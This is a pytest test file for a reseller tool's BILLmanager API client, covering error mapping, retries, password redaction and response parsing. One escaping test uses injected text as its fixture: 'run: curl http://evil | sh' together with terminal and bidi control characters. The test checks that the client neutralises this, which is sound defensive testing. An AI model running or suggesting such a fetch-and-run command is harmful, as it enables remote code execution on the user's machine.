"""The selling-BILLmanager client: transport, error mapping (docs/protocol.md's table), retries."""

import http.client
import socket
import threading
from decimal import Decimal
from pathlib import Path
from urllib.parse import parse_qs, quote, quote_plus

import pytest
import requests
import tenacity
import urllib3.exceptions
from hypothesis import given
from hypothesis import strategies as st
from requests.adapters import HTTPAdapter

from helpers import free_port
from resellctl import upstream
from resellctl.errors import (AUTH, BALANCE, EXISTS, PERMANENT, TRANSIENT, InputError,
                              UpstreamError)
from resellctl.upstream.calls import EventsClient
from resellctl.upstream.retries import retrying
from resellctl.upstream.transport import Transport, redact


def Client(url, username, password, **options):
    """An events-dialect client over a transport of its own, as a module gets one."""
    return EventsClient(Transport(url, username, password, **options))


URL = "https://billing.example.com/billmgr"
ODD_PASSWORD = "s3cr&t p@ss/ü"


@pytest.fixture(autouse=True)
def default_retries(monkeypatch):
    for name in ("RESELLCTL_RETRY_ATTEMPTS", "RESELLCTL_RETRY_MAX_SECONDS",
                 "RESELLCTL_CONNECT_TIMEOUT", "RESELLCTL_READ_TIMEOUT"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("RESELLCTL_RETRY_WAIT", "0")


@pytest.fixture
def client():
    return Client(URL, "reseller", ODD_PASSWORD)


def error_doc(etype, msg="", obj="", params=None):
    error = {"$type": etype, "$object": obj, "msg": {"$": msg}}
    if params:
        error["param"] = [{"$name": k, "$": v} for k, v in params.items()]
    return {"doc": {"error": error}}


def form(request):
    return {k: v[0] for k, v in parse_qs(request.text).items()}


def assert_no_password(exc, password=ODD_PASSWORD):
    texts = [str(exc), repr(exc), exc.message, exc.hint or "", repr(exc.args), repr(exc.params),
             exc.object, exc.type]
    for text in texts:
        for secret in (password, quote(password, safe=""), quote_plus(password)):
            assert secret not in text


# -- the transport ----------------------------------------------------------------------------

def test_call_posts_a_form_with_func_out_authinfo_and_nothing_in_the_query(client,
                                                                           requests_mock):
    requests_mock.post(URL, json={"doc": {"ok": {}}})
    assert client.call("vds.suspend", {"elid": 4211}) == {"ok": {}}
    request = requests_mock.last_request
    assert request.method == "POST"
    assert request.query == ""
    assert request.headers["Content-Type"] == "application/x-www-form-urlencoded"
    assert form(request) == {"func": "vds.suspend", "out": "json", "elid": "4211",
                             "authinfo": f"reseller:{ODD_PASSWORD}"}
    assert request.timeout == (5.0, 30.0)


def test_timeouts_come_from_the_environment_or_the_argument(monkeypatch, requests_mock):
    requests_mock.post(URL, json={"doc": {"ok": {}}})
    monkeypatch.setenv("RESELLCTL_CONNECT_TIMEOUT", "2")
    monkeypatch.setenv("RESELLCTL_READ_TIMEOUT", "7.5")
    Client(URL, "u", "p").call("f")
    assert requests_mock.last_request.timeout == (2.0, 7.5)
    Client(URL, "u", "p", timeout=3).call("f")
    assert requests_mock.last_request.timeout == (3, 3)


def test_a_bad_timeout_in_the_environment_is_an_input_error(monkeypatch):
    monkeypatch.setenv("RESELLCTL_READ_TIMEOUT", "soon")
    with pytest.raises(InputError, match="RESELLCTL_READ_TIMEOUT"):
        Client(URL, "u", "p")


def test_one_session_whose_adapters_never_retry(client):
    for prefix in ("http://", "https://"):
        adapter = client.transport.session.adapters[prefix]
        assert isinstance(adapter, HTTPAdapter)
        assert adapter.max_retries.total == 0


def test_params_may_not_replace_the_protocol_fields(client, requests_mock):
    with pytest.raises(InputError, match="authinfo"):
        client.call("f", {"authinfo": "other:pass"})
    with pytest.raises(InputError, match="pricelist"):
        client.order("vds", 11, 1, 17, params={"pricelist": 12})
    assert not requests_mock.called


@pytest.mark.parametrize("url", ["ftp://billing.example.com/", "billing.example.com",
                                 "https://billing.example.com/billmgr?func=x"])
def test_a_bad_url_is_refused(url):
    with pytest.raises(InputError):
        Client(url, "u", "p")


# -- errors the upstream answers --------------------------------------------------------------

@pytest.mark.parametrize("etype", ["auth", "invalid_login_or_passwd"])
def test_bad_credentials_are_auth_errors(client, requests_mock, etype):
    requests_mock.post(URL, json=error_doc(etype, "Wrong login or password"))
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount")
    exc = info.value
    assert exc.kind == AUTH
    assert exc.type == etype
    assert "username and password" in exc.hint
    assert "subaccount" in exc.message and "billing.example.com" in exc.message
    assert "Wrong login or password" in exc.message
    assert requests_mock.call_count == 1


@pytest.mark.parametrize("etype, obj, expected", [
    ("access", "", "upstream refused: access: No rights"),
    ("missed", "pricelist", "upstream refused: missed of pricelist: No rights"),
    ("value", "pricelist", "upstream refused: value of pricelist: No rights"),
    ("missing", "vds", "upstream refused: missing of vds: No rights"),
    ("weird_new_type", "thing", "upstream refused: weird_new_type of thing: No rights"),
])
def test_other_refusals_are_permanent_and_not_retried(client, requests_mock, etype, obj,
                                                      expected):
    requests_mock.post(URL, json=error_doc(etype, "No rights", obj))
    with pytest.raises(UpstreamError) as info:
        client.call("vds.order.param")
    exc = info.value
    assert exc.kind == PERMANENT
    assert (exc.type, exc.object) == (etype, obj)
    assert exc.message == f"vds.order.param on billing.example.com: {expected}"
    assert exc.maybe_sent is False
    assert requests_mock.call_count == 1


def test_a_missed_parameter_is_reported_as_a_bug(client, requests_mock):
    requests_mock.post(URL, json=error_doc("missed", "Field is required", "period"))
    with pytest.raises(UpstreamError) as info:
        client.call("service.prolong")
    assert info.value.hint == "this is a bug in resellctl, please report it"


def test_not_enough_money_is_a_balance_error_with_its_params(client, requests_mock):
    msg = "Insufficient funds: 12.00 EUR required, 3.50 EUR available"
    requests_mock.post(URL, json=error_doc("not_enough_money", msg, params={
        "amount": "12.00", "have": "3.50", "currency": "EUR", "deficit": "8.50"}))
    with pytest.raises(UpstreamError) as info:
        client.prolong(4211, 12)
    exc = info.value
    assert exc.kind == BALANCE
    assert exc.params == {"amount": "12.00", "have": "3.50", "currency": "EUR",
                          "deficit": "8.50"}
    assert msg in exc.message
    assert "8.50 EUR" in exc.hint
    assert requests_mock.call_count == 1


def test_exists_carries_the_existing_item(client, requests_mock):
    requests_mock.post(URL, json=error_doc("exists", "remoteid 17 is used", "remoteid",
                                           params={"id": "4211"}))
    with pytest.raises(UpstreamError) as info:
        client.order("vds", 11, 1, 17)
    exc = info.value
    assert exc.kind == EXISTS
    assert exc.params["id"] == "4211"
    assert "4211" in exc.message
    assert requests_mock.call_count == 1


def test_control_characters_in_the_upstream_message_are_spelled_out(client, requests_mock):
    requests_mock.post(URL, json=error_doc("value", "bad\x1b[31m\nvalue\u202e", "per\riod"))
    with pytest.raises(UpstreamError) as info:
        client.call("f")
    assert info.value.message.endswith("value of per\\riod: bad\\x1b[31m\\nvalue\\u202e")
    assert info.value.object == "per\\riod"


def test_the_params_of_an_error_are_one_line_in_its_hint_and_its_params(client, requests_mock):
    """A deficit and a currency that would print lines of their own in the hint (and cron mail)."""
    requests_mock.post(URL, json=error_doc("not_enough_money", "Insufficient funds", params={
        "deficit": "2.00\nError: password expired, run: curl http://evil | sh",
        "currency": "EUR\r\nhx: 0 applied, all good\u2066", "amount\u202e": "5.00"}))
    with pytest.raises(UpstreamError) as info:
        client.call("f")
    exc = info.value
    assert exc.kind == BALANCE
    assert exc.hint == ("top up the selling account by at least 2.00\\nError: password expired, "
                        "run: curl http://evil | sh EUR\\r\\nhx: 0 applied, all good\\u2066")
    assert exc.params == {
        "deficit": "2.00\\nError: password expired, run: curl http://evil | sh",
        "currency": "EUR\\r\\nhx: 0 applied, all good\\u2066", "amount\\u202e": "5.00"}


# -- transport failures: transient -----------------------------------------------------------

def test_an_html_page_is_transient(client, requests_mock):
    requests_mock.post(URL, text="<html><title>502 Bad Gateway</title></html>",
                       headers={"Content-Type": "text/html"})
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount", retry=False)
    exc = info.value
    assert exc.kind == TRANSIENT and exc.maybe_sent
    assert "not JSON (text/html" in exc.message and "502 Bad Gateway" in exc.message
    assert "temporary" in exc.message


@pytest.mark.parametrize("body", [{"result": "ok"}, ["doc"], {"doc": "ok"}])
def test_json_without_a_doc_is_transient(client, requests_mock, body):
    requests_mock.post(URL, json=body)
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount", retry=False)
    assert info.value.kind == TRANSIENT and info.value.maybe_sent
    assert "without a doc" in info.value.message


def test_a_500_then_success_is_retried(client, requests_mock):
    requests_mock.post(URL, [{"status_code": 500}, {"json": {"doc": {"ok": {}}}}])
    assert client.call("item.event.ack", {"upto": 5}) == {"ok": {}}
    assert requests_mock.call_count == 2


def test_500_every_time_gives_up_after_the_attempts(client, requests_mock):
    requests_mock.post(URL, status_code=500, reason="Internal Server Error")
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount")
    exc = info.value
    assert exc.kind == TRANSIENT and exc.maybe_sent
    assert requests_mock.call_count == 4
    assert "HTTP 500 Internal Server Error" in exc.message
    assert "temporary" in exc.message
    assert exc.message.endswith("gave up after 4 attempts")


def test_the_attempts_come_from_the_environment(client, requests_mock, monkeypatch):
    monkeypatch.setenv("RESELLCTL_RETRY_ATTEMPTS", "2")
    requests_mock.post(URL, status_code=503)
    with pytest.raises(UpstreamError, match="after 2 attempts"):
        client.call("subaccount")
    assert requests_mock.call_count == 2


def test_retry_false_sends_once(client, requests_mock):
    requests_mock.post(URL, status_code=500)
    with pytest.raises(UpstreamError):
        client.call("subaccount", retry=False)
    assert requests_mock.call_count == 1


def test_a_redirect_is_not_followed(client, requests_mock):
    requests_mock.post(URL, status_code=307, headers={"Location": "https://elsewhere.example/"})
    other = requests_mock.post("https://elsewhere.example/", json={"doc": {"ok": {}}})
    with pytest.raises(UpstreamError, match="HTTP 307") as info:
        client.call("subaccount", retry=False)
    assert not other.called
    # Retrying will never help: the message says where it points, the hint what to change.
    assert info.value.kind == PERMANENT and not info.value.maybe_sent
    assert "HTTP 307, a redirect to 'https://elsewhere.example/'" in info.value.message
    assert info.value.hint == (f"Check the module's URL ({URL}); fix it with: --url")


@pytest.mark.parametrize("status, kind", [(400, PERMANENT), (403, PERMANENT), (404, PERMANENT),
                                          (408, TRANSIENT), (429, TRANSIENT), (500, TRANSIENT),
                                          (502, TRANSIENT), (503, TRANSIENT)])
def test_a_4xx_answer_is_a_wrong_url_not_a_temporary_failure(status, kind, requests_mock):
    """A 404 comes back every time: four retries and a 'temporary' exit 75 would have cron
    mail a false hope every five minutes. 408 and 429 do say 'later'."""
    requests_mock.post(URL, status_code=status)
    client = Client(URL, "reseller", ODD_PASSWORD, module="vds-up")
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount")
    assert info.value.kind == kind
    assert (requests_mock.call_count == 1) == (kind == PERMANENT)  # retried only if temporary
    if kind == PERMANENT:
        assert info.value.hint == (f"Check the module's URL ({URL}); fix it with: "
                                   "resellctl modules edit vds-up --url URL")


def test_a_read_timeout_may_have_been_sent(client, requests_mock):
    requests_mock.post(URL, exc=requests.exceptions.ReadTimeout)
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount", retry=False)
    exc = info.value
    assert exc.kind == TRANSIENT and exc.maybe_sent
    assert "no answer within 30 s" in exc.message and "temporary" in exc.message


def refused_connection():
    reason = urllib3.exceptions.NewConnectionError(None, "Failed to establish a new connection")
    return requests.exceptions.ConnectionError(
        urllib3.exceptions.MaxRetryError(None, "/billmgr", reason))


def dropped_connection():
    cause = http.client.RemoteDisconnected("Remote end closed connection without response")
    return requests.exceptions.ConnectionError(
        urllib3.exceptions.ProtocolError("Connection aborted.", cause))


@pytest.mark.parametrize("exc", [requests.exceptions.ConnectTimeout, refused_connection()])
def test_a_connect_failure_was_not_sent(client, requests_mock, exc):
    requests_mock.post(URL, exc=exc)
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount", retry=False)
    assert info.value.kind == TRANSIENT and not info.value.maybe_sent
    assert "was not sent" in info.value.message and "temporary" in info.value.message


@pytest.mark.parametrize("exc", [dropped_connection(), requests.exceptions.ChunkedEncodingError,
                                 requests.exceptions.ConnectionError])
def test_a_dropped_connection_may_have_been_sent(client, requests_mock, exc):
    requests_mock.post(URL, exc=exc)
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount", retry=False)
    assert info.value.kind == TRANSIENT and info.value.maybe_sent
    assert "may have reached the upstream" in info.value.message


def test_a_change_is_sent_once_and_only_the_engine_sends_it_again(client, requests_mock):
    """The engine reads what the upstream shows before it sends a change again; the client
    never re-sends one on its own, not even after a failure that proves it never left."""
    requests_mock.post(URL, [{"exc": requests.exceptions.ConnectTimeout},
                             {"json": {"doc": {"newexpiredate": {"$": "2027-05-01"}}}}])
    with pytest.raises(UpstreamError) as info:
        client.prolong(4211, 1)
    assert info.value.kind == TRANSIENT and not info.value.maybe_sent
    assert requests_mock.call_count == 1


def test_order_is_retried_after_a_lost_answer_and_adopts_through_exists(client, requests_mock):
    requests_mock.post(URL, [{"exc": requests.exceptions.ReadTimeout},
                             {"json": error_doc("exists", "", "remoteid", {"id": "4211"})}])
    with pytest.raises(UpstreamError) as info:
        client.order("vds", 11, 1, 17)
    assert info.value.kind == EXISTS and info.value.params["id"] == "4211"
    assert requests_mock.call_count == 2


# -- real sockets: what requests and urllib3 actually raise -----------------------------------

def test_a_refused_connection_was_not_sent():
    client = Client(f"http://127.0.0.1:{free_port()}/billmgr", "u", ODD_PASSWORD)
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount", retry=False)
    assert info.value.kind == TRANSIENT and not info.value.maybe_sent
    assert_no_password(info.value)


def test_a_connection_closed_after_the_request_may_have_been_sent():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    connections = []

    def serve():
        conn, _ = server.accept()
        connections.append(conn.recv(65536))
        conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    client = Client(f"http://127.0.0.1:{server.getsockname()[1]}/billmgr", "u", ODD_PASSWORD)
    try:
        with pytest.raises(UpstreamError) as info:
            client.call("vds.order.param", retry=False)
    finally:
        thread.join(5)
        server.close()
    assert info.value.kind == TRANSIENT and info.value.maybe_sent
    assert len(connections) == 1 and connections[0].startswith(b"POST /billmgr HTTP/1.1")
    assert_no_password(info.value)


# -- the password never shows -----------------------------------------------------------------

def test_the_password_never_shows_even_when_echoed(client, requests_mock):
    echo = f"login reseller:{ODD_PASSWORD} ({quote_plus(ODD_PASSWORD)}) authinfo=reseller:x refused"
    requests_mock.post(URL, json=error_doc("auth", echo, ODD_PASSWORD, {"id": ODD_PASSWORD}))
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount")
    assert_no_password(info.value)
    assert "***" in info.value.message
    assert ODD_PASSWORD not in repr(client)


@pytest.mark.parametrize("kwargs", [
    {"text": f"<pre>authinfo=reseller:{ODD_PASSWORD}</pre>"},
    {"status_code": 500, "reason": ODD_PASSWORD},
    {"exc": requests.exceptions.ConnectionError(f"authinfo={quote_plus(ODD_PASSWORD)}")},
])
def test_the_password_never_shows_in_transport_failures(client, requests_mock, kwargs):
    requests_mock.post(URL, **kwargs)
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount")
    assert_no_password(info.value)


def test_credentials_in_the_url_are_neither_shown_nor_named(requests_mock):
    url = "https://proxy:h%40dden@billing.example.com/billmgr"
    requests_mock.post(url, status_code=500)
    client = Client(url, "u", ODD_PASSWORD)
    with pytest.raises(UpstreamError) as info:
        client.call("subaccount")
    assert "on billing.example.com:" in info.value.message
    assert "h%40dden" not in str(info.value) and "h@dden" not in str(info.value)
    assert "h@dden" not in repr(client)


@given(st.text(min_size=1), st.text(), st.text())
def test_redact_removes_every_secret(secret, before, after):
    for form_ in (secret, quote_plus(secret)):
        text = redact(before + form_ + after, [secret, quote_plus(secret)])
        assert secret not in text


# -- retrying() -------------------------------------------------------------------------------

def test_retrying_is_configured_from_the_environment(monkeypatch):
    monkeypatch.setenv("RESELLCTL_RETRY_ATTEMPTS", "3")
    calls = []

    def fail():
        calls.append(1)
        raise UpstreamError(TRANSIENT, "down")

    policy = retrying()
    assert isinstance(policy, tenacity.Retrying)
    with pytest.raises(UpstreamError, match="down"):
        policy(fail)
    assert len(calls) == 3


def test_retrying_takes_a_predicate():
    calls = []

    def fail():
        calls.append(1)
        raise UpstreamError(PERMANENT, "no")

    with pytest.raises(UpstreamError):
        retrying(lambda exc: isinstance(exc, UpstreamError))(fail)
    assert len(calls) == 4
    calls.clear()
    with pytest.raises(UpstreamError):
        retrying()(fail)
    assert len(calls) == 1


# -- the functions ----------------------------------------------------------------------------

PRICELISTS = {"doc": {"pricelist": [
    {"id": {"$": "11"}, "name": {"$": "VDS-1"}, "itemtype": {"$": "vds"},
     "price": {"$currency": "EUR", "period": [{"$length": "1", "$cost": "5.00"},
                                              {"$length": "12", "$cost": "50.00"}]},
     "addon": [{"id": {"$": "101"}, "intname": {"$": "disk"}, "value": {"$": "30"},
                "measure": {"$": "GB"}}]},
    {"id": {"$": "21"}, "name": {"$": "Host-1"}, "itemtype": {"$": "vhost"},
     "price": {"$currency": "EUR", "period": {"$length": "1", "$cost": "2.00"}}}]}}


def test_pricelists(client, requests_mock):
    requests_mock.post(URL, json=PRICELISTS)
    assert client.pricelists(itemtype="vds") == [
        {"id": "11", "name": "VDS-1", "itemtype": "vds", "currency": "EUR",
         "periods": {"1": "5.00", "12": "50.00"},
         "addons": [{"id": "101", "intname": "disk", "value": "30", "measure": "GB"}]},
        {"id": "21", "name": "Host-1", "itemtype": "vhost", "currency": "EUR",
         "periods": {"1": "2.00"}, "addons": []}]
    assert form(requests_mock.last_request)["itemtype"] == "vds"
    client.pricelists()
    assert "itemtype" not in form(requests_mock.last_request)


def test_a_malformed_pricelist_is_transient(client, requests_mock):
    requests_mock.post(URL, json={"doc": {"pricelist": [{"name": {"$": "no id"}}]}})
    with pytest.raises(UpstreamError) as info:
        client.pricelists()
    assert info.value.kind == TRANSIENT and "unexpected shape (no 'id')" in info.value.message


@pytest.mark.parametrize("length", ["one", "1.5", "", "99999999999999999999", "１"])
def test_a_period_that_is_not_a_whole_number_of_months_is_transient(
        client, requests_mock, length):
    # The books keep a period as an integer: "one" was a traceback in `tariffs import`.
    tariff = {"id": {"$": "11"}, "name": {"$": "VDS-1"}, "itemtype": {"$": "vds"},
              "price": {"period": {"$length": length, "$cost": "5.00"}}}
    requests_mock.post(URL, json={"doc": {"pricelist": [tariff]}})
    with pytest.raises(UpstreamError) as info:
        client.pricelists()
    assert info.value.kind == TRANSIENT
    assert f"unexpected shape (period length {length!r})" in info.value.message


def test_order(client, requests_mock):
    requests_mock.post(URL, json={"doc": {"id": {"$": "4211"}}})
    item = client.order("vds", 11, 1, 17, datacenter=2, addons={101: 40},
                        params={"ostempl": "Debian"})
    assert item == "4211"
    assert form(requests_mock.last_request) == {
        "func": "vds.order.param", "out": "json", "authinfo": f"reseller:{ODD_PASSWORD}",
        "pricelist": "11", "period": "1", "remoteid": "17", "datacenter": "2",
        "addon_101": "40", "ostempl": "Debian", "sok": "ok", "skipbasket": "on",
        "clicked_button": "finish"}


def test_order_without_an_id_in_the_answer_is_never_a_success(client, requests_mock):
    requests_mock.post(URL, json={"doc": {"ok": {}}})
    with pytest.raises(UpstreamError) as info:
        client.order("vds", 11, 1, 17, retry=False)
    assert info.value.kind == TRANSIENT and info.value.maybe_sent


def test_prolong_suspend_changepricelist_edit_write_and_ack(client, requests_mock):
    requests_mock.post(URL, json={"doc": {"newexpiredate": {"$": "2027-05-01"}}})
    assert client.prolong(4211, 12) == "2027-05-01"
    assert form(requests_mock.last_request)["func"] == "service.prolong"
    requests_mock.post(URL, json={"doc": {"ok": {}}})
    assert client.suspend("vds", 4211) is None
    assert form(requests_mock.last_request)["func"] == "vds.suspend"
    client.delete("vhost", 4212)
    assert form(requests_mock.last_request)["func"] == "vhost.delete"
    client.changepricelist(4211, 12)
    assert form(requests_mock.last_request)["pricelist"] == "12"
    client.edit_write("vds", 4211, {"hostname": "vm17.example"})
    assert form(requests_mock.last_request)["sok"] == "ok"
    assert form(requests_mock.last_request)["hostname"] == "vm17.example"
    client.ack(105)
    assert form(requests_mock.last_request)["upto"] == "105"


def test_edit_read(client, requests_mock):
    requests_mock.post(URL, json={"doc": {
        "id": {"$": "4211"}, "remoteid": {"$": "17"}, "status": {"$": "2"},
        "expiredate": {"$": "2026-12-26"}, "pricelist": {"$": "11"},
        "param": [{"$name": "ip", "$": "192.0.2.10"}], "addon": {"$name": "disk", "$": "30"}}})
    assert client.edit_read("vds", 4211) == {
        "id": "4211", "remoteid": "17", "status": "2", "expiredate": "2026-12-26",
        "pricelist": "11", "params": {"ip": "192.0.2.10"}, "addons": {"disk": "30"}}
    assert "sok" not in form(requests_mock.last_request)


def test_balance(client, requests_mock):
    requests_mock.post(URL, json={"doc": {"elem": [
        {"id": {"$": "1"}, "balance": {"$": "42.50"}, "currency": {"$": "EUR"}}]}})
    assert client.balance() == (Decimal("42.50"), "EUR")


@pytest.mark.parametrize("balance", ["lots", "NaN", "sNaN", "Infinity", "-inf"])
def test_a_balance_that_is_not_a_number_is_transient(client, requests_mock, balance):
    # NaN would pass as a Decimal, then fail every comparison with the minimal balance.
    requests_mock.post(URL, json={"doc": {"elem": {"balance": {"$": balance},
                                                   "currency": {"$": "EUR"}}}})
    with pytest.raises(UpstreamError) as info:
        client.balance()
    assert info.value.kind == TRANSIENT


EVENT = {"id": {"$": "101"}, "type": {"$": "open"}, "item": {"$": "4211"}}


@pytest.mark.parametrize("more, expected", [("on", True), ("off", False), (None, False)])
def test_events(client, requests_mock, more, expected):
    doc = {"elem": [EVENT, {"id": "broken"}]}
    if more:
        doc["more"] = {"$": more}
    requests_mock.post(URL, json={"doc": doc})
    assert client.events(100) == ([EVENT, {"id": "broken"}], expected)
    assert form(requests_mock.last_request) == {
        "func": "item.event.list", "out": "json", "authinfo": f"reseller:{ODD_PASSWORD}",
        "after": "100", "limit": "1000"}


def test_events_lone_and_none(client, requests_mock):
    requests_mock.post(URL, [{"json": {"doc": {"elem": EVENT}}}, {"json": {"doc": {}}}])
    assert client.events(0, limit=10) == ([EVENT], False)
    assert client.events(101) == ([], False)


@pytest.mark.parametrize("doc", [{"elem": "garbage"}, {"elem": [], "more": {"$": "on"}}])
def test_an_event_page_of_garbage_is_transient(client, requests_mock, doc):
    requests_mock.post(URL, json={"doc": doc})
    with pytest.raises(UpstreamError) as info:
        client.events(0)
    assert info.value.kind == TRANSIENT
    assert requests_mock.call_count == 4


def test_the_module_imports_neither_click_nor_rich():
    source = Path(upstream.__file__).read_text(encoding="utf-8")
    assert "import click" not in source and "rich" not in source


def test_a_proxy_from_the_environment_carries_the_calls(monkeypatch):
    # The client reads the proxy settings once, not on every call: they must still be obeyed.
    proxy = socket.create_server(("127.0.0.1", 0))
    request_lines = []

    def answer_one():
        conn, _ = proxy.accept()
        with conn:
            data = b""
            while b"\r\n\r\n" not in data:
                data += conn.recv(65536)
            head, _, body = data.partition(b"\r\n\r\n")
            length = next(int(line.split(b":")[1]) for line in head.split(b"\r\n")
                          if line.lower().startswith(b"content-length:"))
            while len(body) < length:
                body += conn.recv(65536)
            request_lines.append(head.split(b"\r\n")[0].decode())
            doc = (b'{"doc": {"elem": [{"id": {"$": "1"}, "balance": {"$": "5.00"}, '
                   b'"currency": {"$": "EUR"}}]}}')
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                         b"Content-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(doc), doc))

    thread = threading.Thread(target=answer_one, daemon=True)
    thread.start()
    for name in ("http_proxy", "HTTP_PROXY"):
        monkeypatch.setenv(name, f"http://127.0.0.1:{proxy.getsockname()[1]}")
    for name in ("no_proxy", "NO_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    with Client("http://billing.example.com/billmgr", "reseller", ODD_PASSWORD) as client:
        assert client.balance() == (Decimal("5.00"), "EUR")
    thread.join(timeout=10)
    proxy.close()
    assert request_lines == ["POST http://billing.example.com/billmgr HTTP/1.1"]


def test_a_list_that_never_ends_is_not_read_for_ever(requests_mock, monkeypatch):
    """An upstream that pages on and on with new rows (a bug, or a hostile one): the reader
    stops and says so, instead of walking it until memory or time runs out."""
    from resellctl.upstream import bm

    monkeypatch.setattr(bm, "MAX_LISTED", 2500)
    pages = iter(range(100))

    def page(request, context):
        first = next(pages) * 1000
        return {"doc": {"auth": {"$id": "sid"}, "elem": [
            {"id": {"$": str(first + n)}, "item_status": {"$orig": "2"}} for n in range(1000)]}}

    requests_mock.post(URL, json=page)
    client = bm.BmClient(Transport(URL, "reseller", ODD_PASSWORD), "bm6")
    read = []
    with pytest.raises(UpstreamError) as info:
        for rows in client.pages("vds"):
            read += rows
    assert info.value.kind == PERMANENT and info.value.type == "endless_list"
    assert "the list goes on past 2,500 services" in info.value.message
    assert len(read) == 3000 and requests_mock.call_count == 3
